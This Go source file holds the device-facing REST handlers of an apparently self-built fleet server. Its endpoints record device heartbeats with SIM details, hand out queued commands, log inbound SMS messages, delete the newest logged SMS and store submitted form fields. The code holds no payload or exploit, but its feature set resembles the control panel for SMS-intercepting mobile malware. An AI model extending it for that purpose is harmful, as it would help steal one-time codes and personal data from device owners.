package api

import (
	"errors"
	"net/http"
	"strings"

	"github.com/rs/zerolog/log"

	"github.com/fleetpanel/fleet-server/internal/dispatcher"
	"github.com/fleetpanel/fleet-server/internal/models"
	"github.com/fleetpanel/fleet-server/internal/registry"
	"github.com/fleetpanel/fleet-server/internal/storage"
	"github.com/fleetpanel/fleet-server/internal/validation"
)

// deviceRef identifies the calling device. Older clients send deviceId.
type deviceRef struct {
	UUID     string `json:"uuid" validate:"required_without=DeviceID,max=256"`
	DeviceID string `json:"deviceId" validate:"required_without=UUID,max=256"`
}

func (d deviceRef) id() string {
	if id := strings.TrimSpace(d.UUID); id != "" {
		return id
	}
	return strings.TrimSpace(d.DeviceID)
}

// ConnectRequest is the body of POST /connect
type ConnectRequest struct {
	deviceRef
	Model   flexString  `json:"model"`
	Battery *flexString `json:"battery"`
	SIM1    *flexString `json:"sim1"`
	SIM2    *flexString `json:"sim2"`
}

// SMSRequest is the body of POST /sms
type SMSRequest struct {
	deviceRef
	From      flexString  `json:"from" validate:"required"`
	Body      flexString  `json:"body" validate:"required"`
	SIM       *flexString `json:"sim"`
	Timestamp *flexString `json:"timestamp"`
}

// ========== Device Endpoints ==========

// HandleConnect records a device heartbeat
func (s *RESTServer) HandleConnect(w http.ResponseWriter, r *http.Request) {
	body, ok := s.decode(w, r)
	if !ok {
		return
	}

	var req ConnectRequest
	if err := s.into(body, &req); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	meta := models.DeviceMetadata{
		Model:   strings.TrimSpace(string(req.Model)),
		Battery: battery(req.id(), req.Battery),
		SIM1:    req.SIM1.ptr(),
		SIM2:    req.SIM2.ptr(),
	}
	if err := s.devices.Connect(r.Context(), req.id(), meta); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	s.respondJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// HandleCommands drains and returns the device's pending commands
func (s *RESTServer) HandleCommands(w http.ResponseWriter, r *http.Request) {
	id := strings.TrimSpace(r.URL.Query().Get("uuid"))
	if id == "" {
		id = strings.TrimSpace(r.URL.Query().Get("deviceId"))
	}
	if id == "" {
		s.respondError(w, http.StatusBadRequest, "uuid is required")
		return
	}

	cmds, err := s.devices.PollCommands(r.Context(), id)
	if err != nil {
		s.respondDeviceError(w, err)
		return
	}
	if cmds == nil {
		cmds = []*models.Command{}
	}

	s.respondJSON(w, http.StatusOK, cmds)
}

// HandleSMS records an inbound SMS
func (s *RESTServer) HandleSMS(w http.ResponseWriter, r *http.Request) {
	body, ok := s.decode(w, r)
	if !ok {
		return
	}

	var req SMSRequest
	if err := s.into(body, &req); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	entry := &models.SMSEntry{
		From:      strings.TrimSpace(string(req.From)),
		Body:      string(req.Body),
		Timestamp: timestamp(req.id(), req.Timestamp),
	}
	if sim := req.SIM.ptr(); sim != nil {
		entry.SIM = *sim
	}

	if err := s.devices.ReceiveSMS(r.Context(), req.id(), entry); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	s.respondJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// HandleDeleteLastSMS removes the newest logged SMS
func (s *RESTServer) HandleDeleteLastSMS(w http.ResponseWriter, r *http.Request) {
	body, ok := s.decode(w, r)
	if !ok {
		return
	}

	var req deviceRef
	if err := s.into(body, &req); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	entry, err := s.devices.DeleteLastSMS(r.Context(), req.id())
	if errors.Is(err, storage.ErrNotFound) {
		s.respondJSON(w, http.StatusOK, map[string]string{"status": "empty"})
		return
	}
	if err != nil {
		s.respondDeviceError(w, err)
		return
	}

	s.respondJSON(w, http.StatusOK, map[string]interface{}{
		"status":  "success",
		"deleted": entry,
	})
}

// HandleFormData stores a submitted panel form
func (s *RESTServer) HandleFormData(w http.ResponseWriter, r *http.Request) {
	body, ok := s.decode(w, r)
	if !ok {
		return
	}

	var req deviceRef
	if err := s.into(body, &req); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	fields := make(models.Variables, len(body.fields))
	for key, value := range body.fields {
		if key == "uuid" || key == "deviceId" {
			continue
		}
		fields[key] = value
	}

	if err := s.devices.SubmitForm(r.Context(), req.id(), fields); err != nil {
		s.respondDeviceError(w, err)
		return
	}

	s.respondJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// ========== Helpers ==========

// battery parses a reported level. Devices that send something
// unreadable are still registered, without a level.
func battery(deviceID string, raw *flexString) *models.Percent {
	s := raw.ptr()
	if s == nil {
		return nil
	}
	p, ok, err := models.ParsePercent(*s)
	if err != nil {
		log.Debug().Err(err).Str("device_id", deviceID).Msg("Ignoring battery level")
		return nil
	}
	if !ok {
		return nil
	}
	return &p
}

// timestamp parses a device clock reading. An unreadable value is left
// zero, which the dispatcher replaces with the server time.
func timestamp(deviceID string, raw *flexString) models.Millis {
	s := raw.ptr()
	if s == nil {
		return models.Millis{}
	}
	m, err := models.ParseMillis(*s)
	if err != nil {
		log.Debug().Err(err).Str("device_id", deviceID).Msg("Ignoring SMS timestamp")
		return models.Millis{}
	}
	return m
}

func (s *RESTServer) decode(w http.ResponseWriter, r *http.Request) (*requestBody, bool) {
	body, err := s.decodeBody(w, r)
	if err != nil {
		log.Debug().Err(err).Str("path", r.URL.Path).Msg("Rejected request body")
		s.respondError(w, http.StatusBadRequest, errBadBody.Error())
		return nil, false
	}
	return body, true
}

// respondDeviceError maps device event errors to status codes. Internal
// details are logged, never returned.
func (s *RESTServer) respondDeviceError(w http.ResponseWriter, err error) {
	var verr *validation.Error
	switch {
	case errors.As(err, &verr):
		s.respondError(w, http.StatusBadRequest, verr.Error())
	case errors.Is(err, errBadBody):
		s.respondError(w, http.StatusBadRequest, errBadBody.Error())
	case errors.Is(err, registry.ErrMissingID):
		s.respondError(w, http.StatusBadRequest, "uuid is required")
	case errors.Is(err, dispatcher.ErrMissingField):
		s.respondError(w, http.StatusBadRequest, "from and body are required")
	default:
		log.Error().Err(err).Msg("Device request failed")
		s.respondError(w, http.StatusInternalServerError, "internal error")
	}
}
